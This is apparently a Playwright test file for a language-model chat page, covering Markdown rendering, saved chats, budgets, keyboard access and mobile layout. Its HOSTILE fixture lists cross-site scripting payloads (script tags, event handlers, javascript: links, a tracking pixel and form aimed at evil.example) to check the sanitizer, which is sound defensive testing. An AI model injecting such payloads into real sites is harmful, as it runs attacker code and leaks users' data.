"""What the page shows and keeps: Markdown, hostile replies, chats, the model card, two budgets; by keyboard alone."""

import re

import pytest

from helpers.browser import CHROMIUM, MISSING, answers_with, chromium, finished, opened, say
from helpers.serving import running, tiny_service

sync_api = pytest.importorskip("playwright.sync_api")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=MISSING)
MARKDOWN = """# Foxes
They *jump* for **three** reasons, see `pounce()` and some_snake_case:

1. mice
   - field mice
   - ~~cats~~
2. [fun](https://example.org/fun)

```python
def pounce():
    return "<b>"
```

> quoted

| a | b |
| - | - |
| 1 | \\*2\\* |

Bare: https://example.org/x.
"""
HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload=window.hacked=1>
[a](javascript:window.hacked=1) [b](  JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>window.hacked=1</script>)
![pixel](https://evil.example/track.png?x=secret) <iframe src="https://evil.example"></iframe>
[d](vbscript:x) [e](//evil.example) [f](https://ok.example/" onmouseover="window.hacked=1)
<a href="javascript:window.hacked=1">g</a> <style>body{display:none}</style> &lt;script&gt;
```html
</code></pre><script>window.hacked = 1</script>
```
| <img src=x onerror=window.hacked=1> | b |
| --- | --- |
**<form action=https://evil.example><button>x</button></form>**
"""
TAGS = ["P", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "CODE", "DIV", "H3", "H4", "H5", "H6", "HR", "BR", "TABLE", "TR",
        "TD", "TH", "A", "EM", "STRONG", "S", "SPAN", "BUTTON"]  # fmt: skip
FUZZ = """async ([bits, rounds]) => {
  const { renderMarkdown } = await import("/static/markdown.js");
  const render = (box, text) => renderMarkdown(box, text, (to, from, until) => {
    if (!(from < until && until <= text.length)) throw new Error(`${from} to ${until} of ${text}`);
    to.append(text.slice(from, until));
  });
  let seed = 1;
  const below = (n) => { seed = (seed * 1103515245 + 12345) % 2147483648; return seed % n; };
  const tags = new Set(), links = new Set();
  for (let round = 0; round < rounds; round += 1) {
    let text = "";
    const grown = document.createElement("div");
    for (let part = below(40); part >= 0; part -= 1) {
      text += bits[below(bits.length)];
      render(grown, text);
    }
    const whole = document.createElement("div");
    render(whole, text);
    if (whole.innerHTML !== grown.innerHTML) throw new Error(`otherwise than whole: ${text}`);
    for (const one of whole.querySelectorAll("*")) {
      tags.add(one.tagName);
      if (one.href) links.add(one.protocol);
    }
  }
  return [[...tags], [...links]];
}"""
BITS = ["*", "**", "_", "`", "```", "~~", "[", "](", "http://x.y", "javascript:a", ")", "\n", "\n\n", "- ", "1. ", "> ",
        "# ", "|", "---", "|-|-|", " ", "    ", "a", "<b onclick=x>", "\\", "&lt;", "!"]  # fmt: skip
LONG = {
    "stars": "*" * 20_000, "pairs": "*a " * 8_000, "words": "_a" * 8_000, "quotes": ">" * 20_000,
    "brackets": "[" * 20_000, "links": "[a](" * 5_000, "fence": "```" + " " * 20_000 + "`",
    "heading": "# " + " " * 20_000 + "x", "rule": "- " * 10_000 + "x", "divider": "a|b\n-" + " " * 20_000 + "x",
    "items": "\n".join("  " * deep + "- x" for deep in range(200)), "ticks": "a".join("`" * n for n in range(300)),
}  # fmt: skip


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def service(byte_tokenizer):
    service = tiny_service(byte_tokenizer, curve=True)
    service.lm.model.generation_config.eos_token_id = None
    return service


@pytest.fixture(scope="module")
def address(service):
    with running(service) as address:
        yield address


@pytest.fixture
def page(browser, address):
    with opened(browser, address, permissions=["clipboard-read", "clipboard-write"]) as page:
        page.fill("#longest", "5")
        yield page


def test_markdown_is_laid_out_and_coloured_token_by_token(page):
    answers_with(page, MARKDOWN)
    say(page, "go on")
    said = page.locator(".answer .said")
    assert said.locator("h3").inner_text() == "Foxes"
    assert [said.locator(tag).all_inner_texts() for tag in ("em", "strong", "s")] == [["jump"], ["three"], ["cats"]]
    assert said.locator("ol > li").count() == 2
    assert said.locator("ol ul > li").count() == 2
    assert said.locator("pre").inner_text() == 'def pounce():\n    return "<b>"'
    assert said.locator("blockquote").inner_text() == "quoted"
    assert said.locator("td").all_inner_texts() == ["1", "*2*"]
    assert "some_snake_case" in said.inner_text()
    links = said.locator("a").evaluate_all("all => all.map((one) => [one.href, one.rel, one.target])")
    assert links == [[f"https://example.org/{end}", "noopener noreferrer nofollow", "_blank"] for end in ("fun", "x")]
    tokens = said.locator("[data-token]").evaluate_all("all => all.map((one) => Number(one.dataset.token))")
    assert tokens == sorted(tokens)
    assert len(set(tokens)) > 40
    page.uncheck("#markdown")
    assert said.text_content() == MARKDOWN
    page.uncheck("#colours")
    assert {span.evaluate("e => e.style.backgroundColor") for span in said.locator("span").all()} == {""}


def test_nothing_in_a_reply_is_carried_out_or_fetched(page):
    fetched = []
    page.on("request", lambda request: fetched.append(request.url))
    answers_with(page, HOSTILE, piece=7)
    for setting in ("check", "uncheck"):
        getattr(page, setting)("#markdown")
        say(page, "go on")
    page.reload()
    page.wait_for_selector(".answer")
    assert page.evaluate("window.hacked") is None
    assert not [url for url in fetched if not url.startswith(page.url)]
    said = page.locator(".said").first.locator("xpath=ancestor::section").locator(".said")
    assert said.evaluate_all("all => all.flatMap((one) => [...one.querySelectorAll('*')].map((e) => e.tagName))")
    tags = set(said.evaluate_all("all => all.flatMap((one) => [...one.querySelectorAll('*')].map((e) => e.tagName))"))
    assert tags <= set(TAGS)
    schemes = page.locator(".said a").evaluate_all("all => all.map((one) => one.protocol)")
    assert set(schemes) <= {"https:"}
    attributes = said.evaluate_all(
        "all => all.flatMap((one) => [...one.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()))"
    )
    assert not {name for name in attributes if name.startswith("on") or name in ("src", "srcdoc", "action")}
    assert "<script>window.hacked = 1</script>" in said.nth(1).inner_text()


def test_markdown_that_was_made_up(page):
    """A reply that grows looks as if it had come whole, and only tags and links that are meant come out."""
    tags, links = page.evaluate(FUZZ, [BITS, 300])
    assert set(tags) <= set(TAGS)
    assert links == ["http:"]
    times = page.evaluate(
        """async (texts) => {
          const { renderMarkdown } = await import("/static/markdown.js");
          return Object.fromEntries(Object.entries(texts).map(([name, text]) => {
            const begun = performance.now();
            renderMarkdown(document.createElement("div"), text, () => {});
            return [name, performance.now() - begun];
          }));
        }""",
        LONG,
    )
    assert max(times.values()) < 5000, times  # what is quadratic takes minutes


def test_answers_and_code_are_copied(page):
    answers_with(page, MARKDOWN)
    say(page, "go on")
    page.click(".answer .head .copy")
    page.locator(".answer .head .copy", has_text="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == MARKDOWN
    page.click(".code .copy")
    page.locator(".code .copy", has_text="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == 'def pounce():\n    return "<b>"'


def test_chats_are_kept_opened_and_deleted(page):
    say(page, "first question")
    page.click("#clear")
    say(page, "second question")
    say(page, "and more")
    page.click("#saved")
    openers = page.locator("#chat-list .open")
    assert [text.splitlines()[0] for text in openers.all_inner_texts()] == ["second question", "first question"]
    assert openers.first.get_attribute("aria-current") == "true"
    openers.nth(1).click()
    assert page.locator(".user").all_inner_texts() == ["first question"]
    sent = []
    page.on("request", lambda request: sent.append(request.post_data_json) if "chat" in request.url else None)
    say(page, "go on")
    assert [one["content"] for one in sent[0]["messages"]][::2] == ["first question", "go on"]
    page.click("#saved")
    page.locator("#chat-list .delete").first.click()  # the one on the page: used last
    assert page.locator(".turn").count() == 0
    assert page.evaluate("document.activeElement.className") == "delete"
    page.locator("#chat-list .delete").click()
    assert page.evaluate("document.activeElement.className") == "close"
    assert page.locator("#chat-list").inner_text() == "No chats yet."
    page.keyboard.press("Escape")
    assert page.evaluate("Object.keys(localStorage).filter((key) => key.startsWith('solm-chat-'))") == []


def test_damaged_and_full_storage(page):
    page.evaluate("""() => {
      localStorage.setItem("solm-chat-broken", "{");
      localStorage.setItem("solm-chat-null", "null");
      const old = {id: "old", changed: 1, title: "old", turns: [{role: "user", text: "x".repeat(4000000)}]};
      localStorage.setItem("solm-chat-old", JSON.stringify(old));
      localStorage.setItem("else", "x".repeat(5242880 - 4000000 - 2000));
    }""")
    page.fill("#longest", "60")
    say(page, "needs room")
    kept = page.evaluate("Object.keys(localStorage).filter((key) => key.startsWith('solm-chat-'))")
    assert len(kept) == 1
    assert "needs room" in page.evaluate("(key) => localStorage.getItem(key)", kept[0])
    page.evaluate("(key) => localStorage.removeItem(key)", kept[0])
    page.evaluate("localStorage.setItem('more', 'x'.repeat(3990000))")
    page.click("#clear")
    say(page, "no room at all " * 200)
    assert page.locator(".answer").count() == 1  # shown, though not kept


def test_the_card_tells_what_budgets_take_and_lose(page, service):
    text = "a message that is long enough to save something after it " * 4
    page.fill("#prompt", text)
    sync_api.expect(page.locator("#least")).to_contain_text("After these")  # which tells what can be saved
    page.click("#about")
    card = page.locator("#card")
    assert "tiny" in card.inner_text()
    assert f"{service.lm.shapes.layers} layers" in card.inner_text()
    cells = card.locator("tbody td").all_inner_texts()
    assert cells[1:6] == ["500", "0.70", "1.43×", "+10.5 %", "0.100 [0.090, 0.110]"]
    card.locator(".use").click()
    assert not card.is_visible()
    assert page.locator("#bytes-value").inner_text() == "0.70"
    assert "share of time" in page.locator("label[for=bytes]").inner_text()
    page.fill("#longest", "8")
    say(page, text)
    assert re.search(r"time 0\.\d\d of 0\.70 asked", page.locator(".facts").inner_text())


@pytest.mark.parametrize("together", [False, True])
def test_two_budgets_side_by_side(page, together):
    sent = []
    page.on("request", lambda request: sent.append(request.post_data_json) if "/chat/" in request.url else None)
    page.fill("#longest", "12")
    page.check("#compare")
    page.select_option("#other", "budget")
    page.locator("#bytes").fill("0.9")
    page.locator("#other-bytes").fill("0.75")
    page.locator("#together").set_checked(together)
    say(page, "what is said twice is said by two budgets, and both of them are told here " * 2)
    assert page.locator(".answer h2").all_inner_texts() == ["policy, budget 0.90", "policy, budget 0.75"]
    assert [one["efficiency"]["budget"] for one in sent] == [0.9, 0.75]
    assert sent[0]["messages"] == sent[1]["messages"]
    for answer, budget in zip(page.locator(".answer").all(), ("0.90", "0.75"), strict=True):
        told = answer.locator(".facts").inner_text()
        assert "tokens/s" in told
        assert f"of {budget} asked" in told
        assert ("× the second's speed" in told) != together
    boxes = [answer.bounding_box() for answer in page.locator(".answer").all()]
    assert boxes[0]["y"] == boxes[1]["y"]
    assert boxes[0]["x"] + boxes[0]["width"] < boxes[1]["x"]


def test_all_of_it_by_keyboard_alone(page):
    answers_with(page, MARKDOWN)
    say(page, "hello")
    order = []
    for _ in range(40):
        page.keyboard.press("Tab")
        found = page.evaluate(
            "(() => { const e = document.activeElement, s = getComputedStyle(e);"
            " return [e.id || e.className || e.tagName, s.outlineStyle !== 'none' || e.tagName === 'BODY'] })()"
        )
        assert found[1], f"no visible focus on {found[0]}"
        order.append(found[0])
    wanted = ["about", "saved", "clear", "talk", "copy", "said", "policy", "bytes", "axes", "compare", "prompt"]
    start = order.index("about")
    places = [order.index(name, start) for name in wanted]
    assert places == sorted(places), order
    for opener, dialog in (("about", "card"), ("saved", "chats")):
        page.focus(f"#{opener}")
        page.keyboard.press("Enter")
        assert page.locator(f"#{dialog}").is_visible()
        assert page.evaluate("document.activeElement.closest('dialog') !== null")
        page.keyboard.press("Escape")
        assert page.evaluate("document.activeElement.id") == opener
    page.locator(".answer .said").focus()
    chosen = []
    for key in ("ArrowRight", "ArrowRight", "ArrowLeft"):
        page.keyboard.press(key)
        chosen.append(page.locator(".chosen").first.get_attribute("data-token"))
        assert "reads" in page.locator(".picked").inner_text()
    assert chosen[0] == chosen[2] != chosen[1]
    assert page.locator("#talk").get_attribute("aria-live") == "polite"
    assert page.locator("#talk").get_attribute("aria-busy") == "false"


def test_dialogs_fit_a_phone(browser, address):
    with opened(browser, address, viewport={"width": 390, "height": 844}, color_scheme="dark", has_touch=True) as page:
        page.fill("#longest", "5")
        page.fill("#prompt", "hi")
        page.locator("#send").tap()
        finished(page)
        for opener, dialog in (("#about", "#card"), ("#saved", "#chats")):
            page.locator(opener).tap()
            box = page.locator(dialog).bounding_box()
            assert box["x"] >= 0
            assert box["x"] + box["width"] <= 390
            assert box["y"] + box["height"] <= 844
            page.locator(f"{dialog} .close").tap()
        assert page.evaluate("document.documentElement.scrollWidth") == 390
